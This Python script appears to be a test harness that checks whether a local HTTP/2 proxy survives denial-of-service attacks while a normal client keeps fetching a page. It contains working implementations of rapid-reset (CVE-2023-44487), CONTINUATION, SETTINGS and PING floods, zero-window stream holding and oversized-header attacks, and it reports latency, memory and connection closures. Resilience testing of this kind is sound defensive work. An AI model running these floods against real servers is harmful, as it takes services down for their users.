#!/usr/bin/env python3
"""HTTP/2 abuse against moodle-edge, while a normal client keeps asking for a page.

For each target listener (TLS with ALPN h2, or h2c with prior knowledge) and each attack, for
a bounded time:

  rapid_reset    streams opened and cancelled at once, never read (CVE-2023-44487)
  continuation   one HEADERS without END_HEADERS, then CONTINUATION frames without end (2024)
  settings_flood SETTINGS frames without reading the ACKs
  ping_flood     PING frames without reading the answers
  zero_window    every allowed stream asks for a large answer with a zero receive window
  big_headers    requests whose header list is far over the limit

prints one JSON line per (target, attack): the normal client's requests, successes and p99 in
ms, the proxy's peak RSS (from /proc, in KiB) and whether the proxy closed the attacking
connections (GOAWAY or EOF). Only 127.0.0.1. Needs the `h2` package (PyPI; Debian python3-h2).
"""

import argparse
import json
import multiprocessing
import socket
import ssl
import threading
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings
from hyperframe.frame import ContinuationFrame, HeadersFrame, PingFrame, SettingsFrame

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def connect(addr, tls, timeout=5.0):
    host, port = addr
    s = socket.create_connection((host, port), timeout=timeout)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if tls:
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])
        s = ctx.wrap_socket(s, server_hostname="lms.test")
        if s.selected_alpn_protocol() != "h2":
            raise RuntimeError("the TLS listener did not choose h2")
    return s


def request_headers(path, tls, extra=()):
    return [
        (":method", "GET"),
        (":path", path),
        (":scheme", "https" if tls else "http"),
        (":authority", "lms.test"),
    ] + list(extra)


def new_client(sock):
    conn = h2.connection.H2Connection(
        h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
    )
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return conn


class Normal(threading.Thread):
    """Sequential GETs on one connection (a new one after any failure)."""

    def __init__(self, addr, tls, path):
        super().__init__(daemon=True)
        self.addr, self.tls, self.path = addr, tls, path
        self.lock = threading.Lock()
        self.results = []  # (ok, seconds)
        self.failures = {}  # why requests failed: status or error name
        self.stop = threading.Event()

    def take(self):
        with self.lock:
            out, self.results = self.results, []
            self.last_failures, self.failures = self.failures, {}
        return out

    def run(self):
        sock = conn = None
        while not self.stop.is_set():
            started = time.monotonic()
            try:
                if conn is None:
                    sock = connect(self.addr, self.tls)
                    conn = new_client(sock)
                ok = self.get(sock, conn)
            except Exception as e:
                ok = False
                with self.lock:
                    name = type(e).__name__
                    self.failures[name] = self.failures.get(name, 0) + 1
                try:
                    sock.close()
                except Exception:
                    pass
                sock = conn = None
            with self.lock:
                self.results.append((ok, time.monotonic() - started))
            if not ok:
                time.sleep(0.05)

    def get(self, sock, conn):
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, request_headers(self.path, self.tls), end_stream=True)
        sock.sendall(conn.data_to_send())
        sock.settimeout(5.0)
        status = None
        while True:
            data = sock.recv(65536)
            if not data:
                raise EOFError
            for ev in conn.receive_data(data):
                if isinstance(ev, h2.events.ResponseReceived) and ev.stream_id == sid:
                    status = dict(ev.headers).get(":status")
                elif isinstance(ev, h2.events.DataReceived):
                    conn.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
                elif isinstance(ev, h2.events.StreamEnded) and ev.stream_id == sid:
                    sock.sendall(conn.data_to_send())
                    if status != "200":
                        with self.lock:
                            self.failures[status] = self.failures.get(status, 0) + 1
                    return status == "200"
                elif isinstance(ev, (h2.events.StreamReset, h2.events.ConnectionTerminated)):
                    raise EOFError
            out = conn.data_to_send()
            if out:
                sock.sendall(out)


class Closed:
    """Counts attacking connections the proxy ended (GOAWAY or EOF or reset), across the
    attacking processes (processes, so the normal client does not wait on their GIL)."""

    def __init__(self):
        self.value = multiprocessing.Value("i", 0)
        # This process's own count (each attacking process has its copy).
        self.mine = 0

    def hit(self):
        self.mine += 1
        with self.value.get_lock():
            self.value.value += 1

    @property
    def count(self):
        return self.value.value


class Window:
    """How long an attack runs: `seconds`, and for an attack the proxy must end, on until it
    has ended one of this process's connections (at most `cap` seconds): a slow machine then
    takes longer instead of giving a false verdict."""

    def __init__(self, seconds, cap, expect_close, closed):
        now = time.monotonic()
        self.soft, self.hard = now + seconds, now + max(cap, seconds)
        self.expect_close, self.closed = expect_close, closed

    def open(self):
        now = time.monotonic()
        if now >= self.hard:
            return False
        return now < self.soft or (self.expect_close and self.closed.mine == 0)


def drain(sock):
    """Reads what came back (briefly); True when the peer closed or sent GOAWAY."""
    sock.settimeout(0.02)
    try:
        while True:
            data = sock.recv(65536)
            if not data:
                return True
            # A GOAWAY frame header: type 0x7 on stream 0 (good enough here: the proxy
            # closes right after it anyway).
            if b"\x07\x00\x00\x00\x00\x00" in data:
                return True
    except (socket.timeout, TimeoutError, BlockingIOError, ssl.SSLWantReadError):
        return False
    except (ConnectionError, ssl.SSLError, OSError):
        return True


def send_some(sock, data, _until):
    """sendall that gives up after a second (a proxy that stopped reading is fine)."""
    sock.settimeout(1.0)
    try:
        sock.sendall(data)
        return True
    except (socket.timeout, TimeoutError):
        return True
    except (ConnectionError, ssl.SSLError, OSError):
        return False


def raw_open(addr, tls, settings=None):
    sock = connect(addr, tls)
    frame = SettingsFrame(0, settings=settings or {})
    sock.sendall(PREFACE + frame.serialize())
    return sock


def attack_rapid_reset(addr, tls, until, closed):
    while until.open():
        try:
            sock = connect(addr, tls)
            conn = new_client(sock)
        except OSError:
            time.sleep(0.05)
            continue
        alive = True
        while alive and until.open():
            # A batch in one write: the resets arrive before the proxy can accept the streams.
            for _ in range(200):
                sid = conn.get_next_available_stream_id()
                conn.send_headers(sid, request_headers("/normal", tls), end_stream=True)
                conn.reset_stream(sid)
            alive = send_some(sock, conn.data_to_send(), until)
            if not alive or drain(sock):
                closed.hit()
                alive = False
        sock.close()


def hpack_literal(name, value):
    """A literal header field without indexing, new name (RFC 7541 §6.2.2), short lengths."""
    assert len(name) < 127 and len(value) < 127
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def attack_continuation(addr, tls, until, closed):
    block = b"".join(hpack_literal(b"x-flood-%d" % i, b"v" * 100) for i in range(100))
    while until.open():
        try:
            sock = raw_open(addr, tls)
        except OSError:
            time.sleep(0.05)
            continue
        first = hpack_literal(b":method", b"GET") + hpack_literal(b":path", b"/normal")
        frames = HeadersFrame(1, data=first).serialize()
        alive = send_some(sock, frames, until)
        while alive and until.open():
            alive = send_some(sock, ContinuationFrame(1, data=block).serialize() * 8, until)
            if not alive or drain(sock):
                closed.hit()
                alive = False
        sock.close()


def attack_flood(addr, tls, until, closed, make):
    while until.open():
        try:
            sock = raw_open(addr, tls)
        except OSError:
            time.sleep(0.05)
            continue
        alive = True
        while alive and until.open():
            alive = send_some(sock, make() * 200, until)
            if not alive or drain(sock):
                closed.hit()
                alive = False
        sock.close()


def attack_settings(addr, tls, until, closed):
    attack_flood(
        addr, tls, until, closed,
        lambda: SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535}).serialize(),
    )


def attack_ping(addr, tls, until, closed):
    attack_flood(addr, tls, until, closed, lambda: PingFrame(0, opaque_data=b"12345678").serialize())


def attack_zero_window(addr, tls, until, closed, path, connections):
    socks = []
    for _ in range(connections):
        try:
            sock = connect(addr, tls)
            conn = h2.connection.H2Connection(
                h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
            )
            conn.local_settings = h2.settings.Settings(
                client=True, initial_values={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0}
            )
            conn.initiate_connection()
            sock.sendall(conn.data_to_send())
            # Read the proxy's SETTINGS so its stream limit is known, then open that many.
            sock.settimeout(2.0)
            conn.receive_data(sock.recv(65536))
            limit = conn.remote_settings.max_concurrent_streams or 100
            for _ in range(min(limit, 1000)):
                sid = conn.get_next_available_stream_id()
                conn.send_headers(sid, request_headers(path, tls), end_stream=True)
            sock.sendall(conn.data_to_send())
            socks.append(sock)
        except (OSError, h2.exceptions.ProtocolError):
            closed.hit()
    # Hold them, reading nothing more, for the attack's time.
    while until.open():
        time.sleep(0.1)
    for sock in socks:
        if drain(sock):
            closed.hit()
        sock.close()


def attack_big_headers(addr, tls, until, closed):
    while until.open():
        try:
            sock = connect(addr, tls)
            conn = new_client(sock)
        except OSError:
            time.sleep(0.05)
            continue
        extra = [("x-big-%d" % i, "v" * 4000) for i in range(64)]  # 256 KiB decoded
        alive = True
        while alive and until.open():
            try:
                sid = conn.get_next_available_stream_id()
                conn.send_headers(sid, request_headers("/normal", tls, extra), end_stream=True)
            except h2.exceptions.ProtocolError:
                break
            alive = send_some(sock, conn.data_to_send(), until)
            if not alive or drain(sock):
                closed.hit()
                alive = False
            time.sleep(0.01)
        sock.close()


ATTACKS = {
    "rapid_reset": attack_rapid_reset,
    "continuation": attack_continuation,
    "settings_flood": attack_settings,
    "ping_flood": attack_ping,
    "zero_window": None,  # needs the large path
    "big_headers": attack_big_headers,
}


# The attacks whose connections the proxy must end.
MUST_CLOSE = ("rapid_reset", "continuation", "settings_flood", "ping_flood")


def rss_kib(pid):
    try:
        with open("/proc/%d/status" % pid) as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1])
    except OSError:
        pass
    return 0


def p99(latencies):
    if not latencies:
        return None
    s = sorted(latencies)
    return s[min(len(s) - 1, int(len(s) * 0.99))] * 1000.0


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--target", action="append", required=True,
                    help="NAME=tls|h2c:HOST:PORT, e.g. tls=tls:127.0.0.1:8443")
    ap.add_argument("--pid", type=int, required=True, help="the proxy's PID (for RSS)")
    ap.add_argument("--seconds", type=float, default=2.0, help="per attack")
    ap.add_argument("--cap", type=float, default=20.0,
                    help="longest an attack the proxy must end runs while it has not")
    ap.add_argument("--attackers", type=int, default=2, help="attacking processes per attack")
    ap.add_argument("--zero-window-connections", type=int, default=1,
                    help="connections per zero_window attacker, each with every stream it may open")
    ap.add_argument("--normal-path", default="/normal")
    ap.add_argument("--large-path", default="/large")
    ap.add_argument("--only", action="append", help="run only these attacks")
    args = ap.parse_args()

    for target in args.target:
        name, spec = target.split("=", 1)
        kind, host, port = spec.split(":")
        addr, tls = (host, int(port)), kind == "tls"
        normal = Normal(addr, tls, args.normal_path)
        normal.start()
        time.sleep(0.3)
        normal.take()  # warm-up excluded
        baseline = rss_kib(args.pid)
        for attack in ATTACKS:
            if args.only and attack not in args.only:
                continue
            closed = Closed()
            until = Window(args.seconds, args.cap, attack in MUST_CLOSE, closed)
            started = time.monotonic()
            threads = []
            for _ in range(args.attackers):
                if attack == "zero_window":
                    t = multiprocessing.Process(
                        target=attack_zero_window,
                        args=(addr, tls, until, closed, args.large_path,
                              args.zero_window_connections), daemon=True)
                else:
                    t = multiprocessing.Process(
                        target=ATTACKS[attack], args=(addr, tls, until, closed), daemon=True)
                t.start()
                threads.append(t)
            peak = baseline
            while any(t.is_alive() for t in threads):
                peak = max(peak, rss_kib(args.pid))
                time.sleep(0.05)
            results = normal.take()
            ok = sum(1 for r in results if r[0])
            print(json.dumps({
                "target": name,
                "attack": attack,
                "seconds": round(time.monotonic() - started, 2),
                "normal_requests": len(results),
                "normal_ok": ok,
                "normal_p99_ms": p99([r[1] for r in results if r[0]]),
                "rss_baseline_kib": baseline,
                "rss_peak_kib": peak,
                "attacker_closed": closed.count,
                "normal_failures": normal.last_failures,
            }), flush=True)
            # Let the proxy settle before the next attack.
            time.sleep(0.3)
            normal.take()
        normal.stop.set()
        normal.join(timeout=10)


if __name__ == "__main__":
    main()
